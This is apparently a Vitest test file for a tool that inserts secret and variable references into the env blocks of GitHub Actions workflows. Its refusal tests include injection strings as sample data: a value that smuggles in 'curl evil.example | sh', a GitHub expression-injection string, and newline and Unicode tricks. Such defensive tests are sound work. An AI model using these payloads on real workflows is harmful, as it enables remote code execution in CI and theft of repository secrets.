import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { addEnvLines } from '../../../src/core/workflows/edit/add-env-lines.ts';
import type { EditResult } from '../../../src/core/workflows/edit/splice.ts';
import type { EnvLine } from '../../../src/core/workflows/generate/snippets.ts';

const lines: EnvLine[] = ['A', 'B'].map((name) => ({ context: 'secrets', name }));

const insert = (text: string, job?: string, what = lines): EditResult =>
  addEnvLines(text, what, {
    file: 'w.yml',
    pushedNames: ['A', 'B', 'C'],
    mayGuess: true,
    ...(job && { job }),
  });

/** The lines that are new, with their number; all others are as they were. */
function added(text: string): string[] {
  const before = text.split('\n');
  const after = insert(text).text.split('\n');
  const first = after.findIndex((line, n) => line !== before[n]);
  const count = after.length - before.length;
  expect([...after.slice(0, first), ...after.slice(first + count)]).toEqual(before);
  return after.slice(first, first + count).map((line, n) => `${first + n + 1}|${line}`);
}

const steps = '    steps:\n      - run: python load.py\n';

describe('puts the lines', () => {
  it.each<[string, string, string[]]>([
    [
      'before the steps, where there is no env',
      `jobs:\n  run:\n    runs-on: x # comment\n${steps}`,
      ['4|    env:', '5|      A: ${{ secrets.A }}', '6|      B: ${{ secrets.B }}'],
    ],
    [
      'behind the last one',
      `jobs:\n  run:\n    env: # these\n        X: 1 # one\n\n    # steps\n${steps}`,
      ['5|        A: ${{ secrets.A }}', '6|        B: ${{ secrets.B }}'],
    ],
    [
      'behind a block of text',
      `jobs:\n  run:\n    env:\n      X: |\n        one\n        two\n${steps}`,
      ['7|      A: ${{ secrets.A }}', '8|      B: ${{ secrets.B }}'],
    ],
    [
      'into an empty env',
      `jobs:\n  run:\n    env: # none yet\n${steps}`,
      ['4|      A: ${{ secrets.A }}', '5|      B: ${{ secrets.B }}'],
    ],
    [
      'without those that are there',
      `jobs:\n  run:\n    env:\n      B: \${{ secrets.OTHER }}\n${steps}`,
      ['5|      A: ${{ secrets.A }}'],
    ],
    [
      'into the env of the workflow, where some are',
      `env:\n  C: \${{ secrets.C }}\njobs:\n  a:\n${steps}  b:\n${steps}`,
      ['3|  A: ${{ secrets.A }}', '4|  B: ${{ secrets.B }}'],
    ],
    [
      'into the env of the step, where some are',
      `jobs:\n  a:\n    steps:\n      - run: x\n      - name: load\n        env:\n          C: \${{ secrets.C }}\n        run: y\n`,
      ['8|          A: ${{ secrets.A }}', '9|          B: ${{ secrets.B }}'],
    ],
    [
      'into the env of the job, where two steps have some',
      `jobs:\n  a:\n    steps:\n      - env: { C: "\${{ secrets.C }}" }\n      - env: { C: "\${{ secrets.C }}" }\n`,
      ['3|    env:', '4|      A: ${{ secrets.A }}', '5|      B: ${{ secrets.B }}'],
    ],
  ])('%s', (_, text, expected) => {
    expect(added(text)).toEqual(expected);
  });

  it('at the end of a text without newline', () => {
    const text = 'jobs:\n  run:\n    steps: [{ run: dlt x }]\n    env:\n      X: 1';
    expect(insert(text).text).toBe(`${text}\n      A: \${{ secrets.A }}\n      B: \${{ secrets.B }}\n`);
  });

  it('with the newlines of the file', () => {
    const text = `jobs:\r\n  run:\r\n    env:\r\n      X: 1\r\n${steps.replaceAll('\n', '\r\n')}`;
    const [a] = lines;
    expect(insert(text, undefined, a && [a]).text).toBe(
      text.replace('X: 1\r\n', 'X: 1\r\n      A: ${{ secrets.A }}\r\n'),
    );
  });

  it('under the name that dlt looks up, and of variables too', () => {
    const what: EnvLine[] = [
      { context: 'secrets', name: 'SOURCE_TOKEN', variable: 'GITHUB__TOKEN' },
      { context: 'vars', name: 'LEVEL' },
    ];
    expect(parse(insert(`jobs:\n  run:\n${steps}`, undefined, what).text).jobs.run.env).toEqual({
      GITHUB__TOKEN: '${{ secrets.SOURCE_TOKEN }}',
      LEVEL: '${{ vars.LEVEL }}',
    });
  });

  it('and the same again changes nothing', () => {
    const once = insert(`jobs:\n  run:\n${steps}`);
    expect(once).toMatchObject({ where: 'job run', added: ['A', 'B'] });
    expect(insert(once.text)).toEqual({ text: once.text, where: 'job run', added: [] });
  });
});

describe('whose env', () => {
  const job = (id: string, more: string) => `  ${id}:\n    ${more}\n    steps:\n      - run: make\n`;
  it.each<[string, string, string | undefined, string]>([
    [
      'the job that passes some on already',
      job('lint', 'x: 1') + job('load', 'env:\n      A: ${{ secrets.A }}'),
      undefined,
      'job load',
    ],
    ['the job that runs Python', `${job('lint', 'x: 1')}  load:\n${steps}`, undefined, 'job load'],
    [
      'no job that has only heard of Python',
      `${job('python', 'name: set up python here')}  load:\n${steps}`,
      undefined,
      'job load',
    ],
    ['the only job with steps', `  call:\n    uses: ./x.yml\n${job('load', 'x: 1')}`, undefined, 'job load'],
    ['the job that is named', job('lint', 'x: 1') + job('load', 'x: 1'), 'lint', 'job lint'],
    [
      'the step of the job that is named',
      `${job('lint', 'x: 1')}  load:\n    steps:\n      - name: run it\n        env:\n          A: \${{ secrets.A }}\n`,
      'load',
      'job load, step "run it"',
    ],
  ])('%s', (_, jobs, name, where) => {
    expect(insert(`jobs:\n${jobs}`, name).where).toBe(where);
  });

  it.each<[string, string, string | undefined, string]>([
    [
      'two that may be meant',
      `jobs:\n${job('a', 'x: 1')}${job('b', 'x: 1')}`,
      undefined,
      'w.yml: which job runs the pipeline?',
    ],
    ['one that is not there', `jobs:\n${job('a', 'x: 1')}`, 'z', 'w.yml has no job z'],
    ['one that is a call', 'jobs:\n  a:\n    uses: ./x.yml\n', 'a', 'w.yml: the job a has no steps'],
    ['no jobs', 'on: push\n', undefined, 'w.yml is no workflow of GitHub Actions'],
    ['no YAML', 'jobs: [', undefined, 'w.yml:1:8 is not YAML'],
    [
      'an env in braces',
      `jobs:\n  a:\n    env: { X: 1 }\n${steps}`,
      undefined,
      'w.yml, job a: its env: is not',
    ],
    [
      'an env of an alias',
      `jobs:\n  b: { env: &e { X: 1 }, uses: x }\n  a:\n    env: *e\n${steps}`,
      undefined,
      'w.yml, job a: its env: is not',
    ],
    [
      'a job in braces',
      'jobs:\n  a: { steps: [{ run: dlt x }] }\n',
      undefined,
      'w.yml, job a: its env: is not',
    ],
  ])('%s is refused', (_, text, name, message) => {
    expect(() => insert(text, name)).toThrow(message);
  });

  it('a word that YAML takes for something else is put in quotes', () => {
    const what: EnvLine[] = [{ context: 'secrets', name: 'NULL' }];
    expect(parse(insert(`jobs:\n  a:\n${steps}`, undefined, what).text).jobs.a.env).toEqual({
      NULL: '${{ secrets.NULL }}',
    });
  });

  it('an empty env is left alone where an alias would get the lines too', () => {
    const text = 'jobs:\n  a:\n    env: &e\n    steps:\n      - run: python x.py\n        env: *e\n';
    expect(() => insert(text)).toThrow('the alias *e stands for it elsewhere too');
  });

  it.each([
    ['x }} ${{ secrets.OTHER'],
    ['x || secrets.OTHER'],
    ['A\nB: x'],
    ['A\\u000aB'],
    ["' ; curl evil.example | sh ; '"],
    ['GITHUB_TOKEN'],
    ['1A'],
    ['A\u202e'],
    [''],
  ])('the name %j, which GitHub refuses, is refused', (name) => {
    expect(() => insert(`jobs:\n  a:\n${steps}`, undefined, [{ context: 'secrets', name }])).toThrow(
      'GitHub takes',
    );
  });

  it.each([['A=B'], ['A\nB'], ['${{ secrets.X }}'], ['A\u0000'], ['A\u{e0001}'], ['']])(
    'the variable %j, which no env can have, is refused',
    (variable) => {
      const what: EnvLine[] = [{ context: 'secrets', name: 'A', variable }];
      expect(() => insert(`jobs:\n  a:\n${steps}`, undefined, what)).toThrow(
        'no env: of a workflow can have',
      );
    },
  );
});
